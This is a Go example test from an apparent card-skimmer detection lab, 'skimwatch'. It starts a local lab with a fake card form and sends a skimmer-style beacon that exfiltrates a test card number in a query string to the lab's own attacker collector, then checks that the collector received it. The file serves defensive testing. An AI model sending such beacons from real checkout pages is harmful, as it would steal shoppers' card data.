package lab_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/skimwatch/skimwatch/internal/lab"
)

// A test starts the lab, switches a scenario on, lets a browser check load
// the scenario's page (l.ShopURL()+s.Page) or run its flow (l.Flow), and
// then asks the attacker's collector what really arrived. Here a plain
// request stands in for the skimmer's beacon, so that the example runs
// without Chromium and its output is fixed.
func Example() {
	ctx := context.Background()
	l, err := lab.Start(ctx, lab.Options{})
	if err != nil {
		panic(err)
	}
	defer l.Close()

	if err := l.SetScenario("fake-card-form"); err != nil {
		panic(err)
	}
	fmt.Println("scenario:", l.Scenario())

	// What the skimmer would send once a honey card is typed.
	resp, err := http.Get(l.AttackerOrigin() + "/c.gif?d=4111111111111111")
	if err != nil {
		panic(err)
	}
	resp.Body.Close()

	wait, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	got, err := l.Attacker().WaitFor(wait, func(r lab.Received) bool {
		return strings.Contains(r.Body, "4111") || strings.Contains(r.URL, "4111")
	})
	if err != nil {
		panic(err)
	}
	fmt.Println("received:", got.Method, strings.TrimPrefix(got.URL, l.AttackerOrigin()))
	// Output:
	// scenario: fake-card-form
	// received: GET /c.gif?d=4111111111111111
}
